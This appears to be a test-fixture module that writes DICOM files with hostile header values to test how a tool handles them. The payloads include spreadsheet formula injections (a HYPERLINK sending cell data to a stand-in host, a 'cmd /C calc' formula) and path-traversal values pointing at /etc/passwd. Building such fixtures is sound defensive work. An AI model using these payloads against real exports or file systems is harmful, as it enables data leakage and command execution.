"""DICOM files whose headers hold hostile values, written byte for byte (pydicom would refuse or fix them)."""

from __future__ import annotations

import warnings
from pathlib import Path

import numpy as np
import pydicom
from pydicom.datadict import tag_for_keyword
from pydicom.dataelem import RawDataElement
from pydicom.tag import Tag
from pydicom.uid import generate_uid

from tests.factory import chest_phantom, make_dicom

#: Bytes of a SeriesInstanceUID whose length field was smashed: binary with NUL, CR and LF, over
#: the csv module's default field limit (131,072) if it were ever written raw.
SMASHED_UID = (b"1.2.840.\x00\r\n\x01\xff\"'=," * 16_000)[:200_000]
PATIENT = "DOE^JANE"  # a patient's name, as PACS exports name folders


def set_raw(ds: pydicom.Dataset, keyword: str, vr: str, value: bytes) -> None:
    """Put ``value`` in the file exactly as given (no validation, no padding, no encoding)."""
    tag = Tag(tag_for_keyword(keyword))
    ds[tag] = RawDataElement(tag, vr, len(value), value, 0, False, True)


def hostile_file(path: Path, raw: dict[str, tuple[str, bytes]], charset: str | None = None, **kw) -> Path:
    """A small assessable DX chest film whose header then gets ``raw`` ``{keyword: (VR, bytes)}`` values."""
    make_dicom(path, chest_phantom(288, 256, seed=len(path.name)), **kw)
    if charset:  # saved and read again first, so that the values below are decoded with it
        ds = pydicom.dcmread(path)
        ds.SpecificCharacterSet = charset
        ds.save_as(path, enforce_file_format=True)
    ds = pydicom.dcmread(path)
    for keyword, (vr, value) in raw.items():
        set_raw(ds, keyword, vr, value)
    with warnings.catch_warnings():  # values over 64 kB: pydicom says it writes them as UN
        warnings.simplefilter("ignore")
        ds.save_as(path, enforce_file_format=True)
    return path


def hostile_folder(root: Path) -> dict[str, Path]:
    """One file per attack; returns ``{name: path}``. Every file has its own study but two."""
    study = generate_uid()
    files = {
        "formula": hostile_file(root / "formula.dcm", {
            "PatientID": ("LO", b'=HYPERLINK("http://x.example/?"&A1,"click")'),
            "AccessionNumber": ("SH", b"+1+cmd"),
            "StudyDate": ("DA", b"-2+3"),
            "StudyDescription": ("LO", b"@SUM(1+1)*cmd|' /C calc'!A0"),
            "BodyPartExamined": ("CS", b"CHEST"),
        }),
        "huge_name": hostile_file(root / "huge_name.dcm", {
            "PatientName": ("PN", b"A" * 100_000),
            "InstitutionName": ("LO", "Ω" .encode() * 50_000),
        }, charset="ISO_IR 192"),
        "smashed_uid": hostile_file(root / "smashed_uid.dcm", {"SeriesInstanceUID": ("UI", SMASHED_UID)}),
        "controls": hostile_file(root / "controls.dcm", {
            "PatientID": ("LO", b"ID\x00\r\n42"),
            "AccessionNumber": ("SH", b"A\tB"),
            "InstitutionName": ("LO", "\u202eevil\u2066".encode()),
            "StudyDescription": ("LO", b"line1\nline2"),
        }, charset="ISO_IR 192"),
        "traversal_rel": hostile_file(root / "traversal_rel.dcm", {
            "AccessionNumber": ("SH", b"../../../evil"),
            "PatientID": ("LO", b"../../../../etc/passwd"),
        }),
        "traversal_abs": hostile_file(root / "traversal_abs.dcm", {
            "AccessionNumber": ("SH", b"/tmp/abs"),
            "PatientID": ("LO", b"/etc/passwd"),
        }),
        "non_ascii": hostile_file(root / "non_ascii.dcm", {
            "PatientName": ("PN", "Müller^Zoë=山田^太郎".encode()),
            "PatientID": ("LO", "ÄÖÜ-123".encode()),
            "InstitutionName": ("LO", "Hôpital Saint-Éloi".encode()),
        }, charset="ISO_IR 192", study_uid=study),
        "latin1": hostile_file(root / "latin1.dcm", {"PatientName": ("PN", "Strauß^Jürgen".encode("latin-1"))},
                               charset="ISO_IR 100", study_uid=study),
        "=name_starts_like_formula": hostile_file(root / "=cmd.dcm", {}),
        "control_in_file_name": hostile_file(root / "new\nline.dcm", {}),
    }
    return files


SAMPLE_JPEG = Path(__file__).resolve().parents[1] / "sample_dicoms/2026-11-24/ACC0005/SC_chest_jpeg_baseline.dcm"


def corrupt_jpeg(path: Path) -> Path:
    """The sample JPEG baseline film with damaged entropy-coded data: libjpeg complains on file descriptor 2."""
    data = bytearray(SAMPLE_JPEG.read_bytes())
    rng = np.random.default_rng(0)
    for i in rng.integers(len(data) // 2, len(data), 200):
        data[i] ^= 0xFF
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(bytes(data))
    return path
